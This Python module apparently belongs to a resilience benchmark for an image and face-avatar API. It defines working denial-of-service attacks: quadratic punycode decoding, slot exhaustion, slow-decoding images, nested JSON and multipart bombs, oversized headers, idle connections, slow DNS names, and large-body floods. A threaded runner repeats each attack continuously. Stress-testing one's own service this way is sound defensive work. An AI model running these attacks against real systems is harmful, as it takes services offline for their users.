"""Attacks on a service: each goes on until it is told to end.

An attack is a function of its target; it prepares what it sends and returns what one of its connections does again and
again. All of them were seen to stop the service for every client, or to fill its memory, before it was protected.
"""

import base64
import contextlib
import io
import itertools
import json
import os
import socket
import threading
import uuid
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from multiprocessing.synchronize import Event
from urllib.parse import urlsplit

import httpx
from PIL import Image

TIMEOUT_S = 60
MIB = 1 << 20
LARGEST_BODY = 16 * MIB
AVATARS, FACES = "/getImageToImage", "/api/v1/faces"
BOUNDARY = "0123456789abcdef"

Act = Callable[[int], str]
"""What a connection does, by its number; returns the answer's status, or what happened instead."""


@dataclass(frozen=True, slots=True)
class Target:
    """A service and the tokens of its attackers."""

    url: str
    tokens: tuple[str, ...]
    photo: str  # a URL

    def post(self, number: int, path: str, body: bytes, content_type: str, **headers: str) -> str:
        """Sends one request on a connection of its own."""
        authorization = {"Authorization": f"Bearer {self.tokens[number % len(self.tokens)]}"}
        all_headers = {"Content-Type": content_type, **authorization, **headers}
        with httpx.Client(timeout=TIMEOUT_S, trust_env=False) as http:
            return str(http.post(self.url + path, content=body, headers=all_headers).status_code)

    def connect(self) -> socket.socket:
        """A bare TCP connection; each operation on it takes `TIMEOUT_S` at most. Raises: OSError."""
        address = urlsplit(self.url)
        return socket.create_connection((address.hostname, address.port), timeout=TIMEOUT_S)


def codecs(target: Target) -> Act:
    """C1: the client names a codec that takes quadratic time."""
    text = b"a" * 300_000 + b"-" + b"b" * 300_000
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="prompt"\r\n\r\n'.encode()
    body = head + text + f"\r\n--{BOUNDARY}--\r\n".encode()
    kind = f"multipart/form-data; boundary={BOUNDARY}; charset=punycode"
    return lambda number: target.post(number, AVATARS, body, kind)


def slots(target: Target) -> Act:
    """H1: legal requests that last as long as possible, from a few tokens."""
    fields = {"batch": 8, "num_inference_steps": 50, "min_similarity": 1.0, "deadline_s": 3600}
    body = json.dumps({"app_id": "face-avatar", "file_url": target.photo, **fields}).encode()

    def act(number: int) -> str:
        return target.post(number, AVATARS, body, "application/json", **{"Idempotency-Key": uuid.uuid4().hex})

    return act


def slow_pictures(target: Target) -> Act:
    """H2: pictures that are cheap to send and slow to decode."""
    file = io.BytesIO()
    Image.new("RGB", (6300, 6300), "pink").save(file, "PNG")
    url = f"data:image/png;base64,{base64.b64encode(file.getvalue()).decode()}"
    body = json.dumps({"file_url": url}).encode()
    return lambda number: target.post(number, FACES, body, "application/json")


def nested_json(target: Target) -> Act:
    """H3: JSON of nothing but brackets."""
    body = b"[" + b"[]," * ((LARGEST_BODY - 16) // 3) + b"[]]"
    return lambda number: target.post(number, AVATARS, body, "application/json")


def many_parts(target: Target) -> Act:
    """H3: a form of nothing but parts."""
    part = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'.encode()
    body = part * ((LARGEST_BODY - 64) // len(part)) + f"--{BOUNDARY}--\r\n".encode()
    kind = f"multipart/form-data; boundary={BOUNDARY}"
    return lambda number: target.post(number, AVATARS, body, kind)


def large_heads(target: Target) -> Act:
    """H4: 25 MB of header lines, or one line of 60 MB, without a token."""
    lines = b"".join(b"X-%07d: %s\r\n" % (number, b"a" * 1000) for number in range(25_000))
    one_line = b"X-Long: " + b"a" * 60_000_000

    def act(number: int) -> str:
        with target.connect() as connection:
            connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: service\r\n" + (lines if number % 2 else one_line))
            connection.sendall(b"\r\n\r\n")
            return connection.recv(12).decode()[9:] or "closed"

    return act


def silent_connections(target: Target) -> Act:
    """H4: connections that are opened and never used."""

    def act(_number: int) -> str:
        with contextlib.ExitStack() as opened:
            connections = [opened.enter_context(target.connect()) for _ in range(50)]
            connections[0].settimeout(20)
            return "closed" if connections[0].recv(1) == b"" else "answered"

    return act


def slow_names(target: Target) -> Act:
    """H5: photos on hosts whose names nobody looks up."""

    def act(number: int) -> str:
        body = json.dumps({"file_url": f"http://{uuid.uuid4().hex}.slow.test/photo.jpg"}).encode()
        return target.post(number, FACES, body, "application/json")

    return act


def large_bodies(target: Target) -> Act:
    """M1: many of the largest bodies at once."""
    photo = base64.b64encode(os.urandom(10 * MIB)).decode()
    body = json.dumps({"app_id": "face-avatar", "file_url": f"data:image/jpeg;base64,{photo}"}).encode()
    return lambda number: target.post(number, AVATARS, body, "application/json")


@dataclass(frozen=True, slots=True)
class Attack:
    """`connections` threads do what `prepare` returns, each again and again.

    `by_name`: the client's photo is fetched from a host of the benchmark's own name server.
    """

    name: str
    prepare: Callable[[Target], Act]
    connections: int
    by_name: bool = False


ATTACKS = (
    Attack("C1 codecs", codecs, 2),
    Attack("H1 slots", slots, 16),
    Attack("H2 slow pictures", slow_pictures, 15),
    Attack("H3 nested JSON", nested_json, 4),
    Attack("H3 many parts", many_parts, 4),
    Attack("H4 large heads", large_heads, 2),
    Attack("H4 silent connections", silent_connections, 4),
    Attack("H5 slow names", slow_names, 30, by_name=True),
    Attack("M1 large bodies", large_bodies, 40),
)


def run(attack: Attack, target: Target, begun: Event, ended: Event) -> Counter[str]:
    """Attacks until `ended`; returns how it was answered. What it sends is prepared when `begun` is set."""
    act = attack.prepare(target)
    begun.set()
    answers: Counter[str] = Counter()

    def again_and_again(number: int) -> None:
        for count in itertools.count():
            if ended.is_set():
                return
            try:
                answers[act(number + count * attack.connections)] += 1
            except (httpx.HTTPError, OSError) as error:
                answers[type(error).__name__] += 1

    for number in range(attack.connections):
        threading.Thread(target=again_and_again, args=[number], daemon=True).start()
    ended.wait()
    return answers.copy()
